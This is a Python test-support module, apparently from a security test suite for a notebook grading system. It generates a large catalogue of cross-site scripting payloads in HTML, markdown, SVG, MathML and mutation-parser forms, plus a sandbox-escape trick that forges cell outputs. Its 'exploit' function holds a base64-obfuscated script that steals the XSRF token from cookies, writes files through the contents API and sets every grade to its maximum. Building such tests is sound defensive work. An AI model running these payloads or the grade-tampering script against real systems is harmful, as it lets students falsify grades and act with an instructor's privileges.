"""Generated hostile content: what a student can put in a notebook to run script in a browser.

:func:`html_payloads` crosses ways to run script (event handlers, script elements, URLs,
frames, forms, SVG, MathML and parser-confusion "mutation" cases) with ways to hide them
(case, entities, control characters in schemes, unclosed tags); :func:`markdown_payloads` adds
markdown's own links, images, reference definitions and HTML block kinds. Every payload carries
``js``, the script the attacker wants to run; :func:`exploit` is the real one used by the browser
test (it writes a file through the contents API, sets every score to the maximum through
formgrader's API and calls home), :func:`beacon` a short one for unit tests.
"""

from __future__ import annotations

import base64
import copy
from typing import Any

import nbformat

from rapprochement_support.samples import make_sample

MARK = "pwned"


def beacon(tag: str) -> str:
    """A short script that marks that it ran (a global and a request to the page's server)."""
    return (
        f"window.{MARK}=(window.{MARK}||[]).concat('{tag}');"
        f"fetch(location.protocol+'//'+location.host+'/{MARK}/{tag}')"
    )


def exploit(tag: str) -> str:
    """What the attack of issue 20 did from the instructor's formgrader page, as one script."""
    body = (
        beacon(tag) + ";"
        # the getter of Document.prototype: the dom-clobbering payload hides document.cookie
        "var c=Object.getOwnPropertyDescriptor(Document.prototype,'cookie').get.call(document);"
        "var x=(c.match(/_xsrf=([^;]+)/)||[])[1]||'';"
        "var h={'Content-Type':'application/json','X-XSRFToken':decodeURIComponent(x)};"
        # absolute addresses: the base-href payload changes what relative ones mean
        "var o=location.protocol+'//'+location.host;"
        f"fetch(o+'/api/contents/{MARK}-{tag}.txt',{{method:'PUT',headers:h,"
        "body:JSON.stringify({type:'file',format:'text',content:'x'})});"
        "if(window.submission_id){fetch(o+'/formgrader/api/grades?submission_id='+"
        "window.submission_id,{headers:h}).then(function(r){return r.json()}).then("
        "function(gs){gs.forEach(function(g){fetch(o+'/formgrader/api/grade/'+g.id,"
        "{method:'PUT',headers:h,body:JSON.stringify({manual_score:g.max_score,"
        "extra_credit:7})})})})}"
    )
    encoded = base64.b64encode(body.encode()).decode()
    return f"eval(atob('{encoded}'))"


def _svg(js: str) -> str:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="JS"><script>JS</script>'
        '<a href="javascript:JS"><text x="1" y="9">svg</text></a>'
        '<foreignObject><img src="x" onerror="JS"/></foreignObject>'
        '<animate attributeName="href" to="javascript:JS"/>'
        '<image href="http://127.0.0.2/track.png"/><rect width="5" height="5" '
        'fill="url(http://127.0.0.2/x#a)"/></svg>'
    ).replace("JS", js)


def html_payloads(js: Any) -> dict[str, str]:
    """{name: HTML} for ``js(name)``, the script each payload tries to run."""
    templates = {
        "img-onerror": '<img src=x onerror="{js}">',
        "img-onerror-unquoted-case": "<IMG SRC=x OnErRoR={js_q}>",
        "img-unclosed": '<img src=x onerror="{js}"',
        "script": "<script>{js}</script>",
        "script-src": '<script src="data:text/javascript,{js}"></script>',
        "script-nested": "<scr<script>ipt>{js}</scr</script>ipt>",
        "a-javascript": '<a href="javascript:{js}">click</a>',
        "a-javascript-entities": '<a href="&#106;avascript:{js}">click</a>',
        "a-javascript-tab": '<a href="java&#x09;script:{js}">click</a>',
        "a-javascript-space-case": '<a href=" JaVaScRiPt:{js}">click</a>',
        "a-vbscript": '<a href="vbscript:msgbox(1)">click</a>',
        "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD4=">click</a>',
        "a-relative-api": '<a href="/api/terminals">terminal</a>',
        "iframe-srcdoc": '<iframe srcdoc="<script>{js}</script>"></iframe>',
        "iframe-src": '<iframe src="javascript:{js}"></iframe>',
        "object": '<object data="javascript:{js}"></object>',
        "embed": '<embed src="javascript:{js}">',
        "form": '<form action="javascript:{js}"><button>Save</button></form>',
        "formaction": '<button formaction="javascript:{js}">go</button>',
        "input-autofocus": '<input autofocus onfocus="{js}">',
        "details-ontoggle": '<details open ontoggle="{js}"><summary>s</summary></details>',
        "body-onload": '<body onload="{js}">',
        "div-onmouseover": '<div onmouseover="{js}" style="position:fixed;inset:0">x</div>',
        "style-import": "<style>@import url(http://127.0.0.2/x.css);</style>",
        "style-attribute": '<p style="background:url(http://127.0.0.2/x.png)">p</p>',
        "link-stylesheet": '<link rel="stylesheet" href="http://127.0.0.2/x.css">',
        "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
        "base-href": '<base href="http://127.0.0.2/">',
        "img-external": '<img src="http://127.0.0.2/track.png">',
        "img-relative": '<img src="/formgrader/api/grades">',
        "img-srcset": '<img srcset="http://127.0.0.2/a.png 1x">',
        "video-poster": '<video poster="http://127.0.0.2/p.png"></video>',
        "svg-inline": _svg("{js}"),
        "math-href": '<math><mi href="javascript:{js}">m</mi></math>',
        "dom-clobbering": '<a id="submission_id" name="base_url">x</a><img name="cookie">',
        "template": '<template><img src=x onerror="{js}"></template>',
        "comment-breakout": '<!--><img src=x onerror="{js}">-->',
        "cdata": '<![CDATA[><img src=x onerror="{js}">]]>',
        "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror={js_q}>">',
        "mxss-math-style": "<math><mtext><table><mglyph><style><img src=x onerror={js_q}>",
        "mxss-svg-style": '<svg></p><style><a id="</style><img src=1 onerror={js_q}>">',
        "mxss-form-math": (
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js_q}>"
        ),
        "mxss-textarea": "<textarea></textarea><img src=x onerror={js_q}></textarea>",
        "mxss-title": "<title><img src=x onerror={js_q}></title>",
        "mxss-xmp": "<xmp><img src=x onerror={js_q}></xmp>",
        "mxss-select": "<select><template><img src=x onerror={js_q}></template></select>",
    }
    out = {}
    for name, template in templates.items():
        script = js(name)
        # unquoted attribute values cannot hold spaces, quotes or '>' ; eval of a string can
        quoted = "eval(atob('" + base64.b64encode(script.encode()).decode() + "'))"
        unquoted = "eval(atob(`" + base64.b64encode(script.encode()).decode() + "`))"
        out[name] = template.replace("{js}", quoted.replace('"', "&quot;")).replace(
            "{js_q}", unquoted
        )
    return out


def markdown_payloads(js: Any) -> dict[str, str]:
    """{name: markdown}: markdown's own ways to make links and raw HTML."""
    out = {f"md-html-{k}": f"Some text.\n\n{v}\n\nMore text." for k, v in html_payloads(js).items()}
    out.update(
        {
            "md-inline-html": 'An answer with <img src=x onerror="' + js("md-inline") + '"> in it.',
            "md-link-javascript": "[click](javascript:" + js("md-link") + ")",
            "md-link-entity": "[click](&#x6A;avascript:" + js("md-link-entity") + ")",
            "md-link-reference": "[click][r]\n\n[r]: javascript:" + js("md-ref"),
            "md-autolink": "<javascript:" + js("md-autolink") + ">",
            "md-image-external": "![t](http://127.0.0.2/track.png)",
            "md-image-data-svg": "![t](data:image/svg+xml;base64,"
            + base64.b64encode(_svg(js("md-img-svg")).encode()).decode()
            + ")",
            "md-code-span": '`<img src=x onerror="' + js("md-code") + '">` is shown as code',
            "md-html-block-7": '<x-custom onclick="' + js("md-block7") + '">x</x-custom>',
            "md-html-after-list": '- item\n\n  <img src=x onerror="' + js("md-list") + '">',
            "md-heading-html": '# Title <img src=x onerror="' + js("md-heading") + '">',
            "md-table-html": '| a |\n|---|\n| <img src=x onerror="' + js("md-table") + '"> |',
            "md-math-href": "$\\href{javascript:" + js("md-math") + "}{x}$",
            "md-attachment-missing": "![t](attachment:nothing.png)",
        }
    )
    return out


def output_bundles(js: Any) -> dict[str, dict[str, Any]]:
    """{name: display_data output} with active content in each output type."""
    return {
        "out-html": {"text/html": '<b>table</b><img src=x onerror="' + js("out-html") + '">'},
        "out-javascript": {"application/javascript": js("out-js"), "text/plain": "js"},
        "out-svg": {"image/svg+xml": _svg(js("out-svg"))},
        "out-markdown": {"text/markdown": "[x](javascript:" + js("out-md") + ")"},
        "out-widget": {
            "application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2},
            "text/plain": "widget",
        },
        "out-plotly": {
            "application/vnd.plotly.v1+json": {
                "data": [{"type": "bar", "x": [1, 2], "y": [3, 4], "name": "<a href='x'>t</a>"}],
                "layout": {"images": [{"source": "http://127.0.0.2/i.png"}]},
                "config": {"topojsonURL": "http://127.0.0.2/"},
            },
            "text/html": "<script>" + js("out-plotly") + "</script>",
        },
        "out-isolated": {"text/html": "<script>" + js("out-isolated") + "</script>"},
        "out-unknown": {"application/x-evil": "<script>" + js("out-unknown") + "</script>"},
    }


def hostile_notebook(assignment: str, js: Any) -> Any:
    """A solved submission whose written answers, added cells and outputs carry every payload.

    Outputs reach the graded copy the way a student can make them: an object's
    ``_repr_html_``, and a forged "done" message the cell sends over the sandbox's event
    channel for the cell before it (the sandbox runner is reachable from the student's code).
    """
    nb = copy.deepcopy(make_sample(assignment, "solved").notebook)
    md = markdown_payloads(js)
    # a missing attachment makes nbconvert refuse the whole page (formgrader shows an error,
    # feedback is not generated), which would hide whether the other payloads run; the unit
    # tests cover it
    del md["md-attachment-missing"]
    html = html_payloads(js)
    written = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")]
    written = [c for c in written if c.cell_type == "markdown"]
    names = sorted(md)
    for n, cell in enumerate(written):
        cell.source = "A written answer (¶9).\n\n" + "\n\n".join(
            md[k] for k in names[n :: len(written)]
        )
    extra = nbformat.v4.new_markdown_cell("\n\n".join(html.values()))
    extra.attachments = {
        "p.svg": {"image/svg+xml": base64.b64encode(_svg(js("attach")).encode()).decode()}
    }
    extra.source += "\n\n![a](attachment:p.svg)"
    nb.cells.append(extra)
    raw = nbformat.v4.new_raw_cell(html["img-onerror"].replace("img-onerror", "raw"))
    raw.metadata["raw_mimetype"] = "text/html"
    nb.cells.append(raw)
    bundles = output_bundles(js)
    nb.cells.append(nbformat.v4.new_code_cell("shown = 1\nshown"))
    forged = [
        {"output_type": "display_data", "data": data, "metadata": {}} for data in bundles.values()
    ]
    forged[-2]["metadata"] = {"text/html": {"isolated": True}}
    code = (
        "import gc, json, sys\n"
        "class Answer:\n"
        "    def _repr_html_(self):\n"
        f"        return {html['img-onerror'].replace('img-onerror', 'repr-html')!r}\n"
        "print('<img src=x onerror=alert(1)> in a stream stays text')\n"
        "here = int(sys._getframe().f_code.co_filename.strip('<>').split()[-1])\n"
        "runner = next(o for o in gc.get_objects() if type(o).__name__ == 'Runner')\n"
        f"runner.send({{'ev': 'done', 'i': here - 1, 'n': 1, 'outputs': {forged!r}}})\n"
        "Answer()"
    )
    nb.cells.append(nbformat.v4.new_code_cell(code))
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"m": {"model_name": "HTMLModel", "state": {"value": "<img src=x>"}}}
        }
    }
    return nb
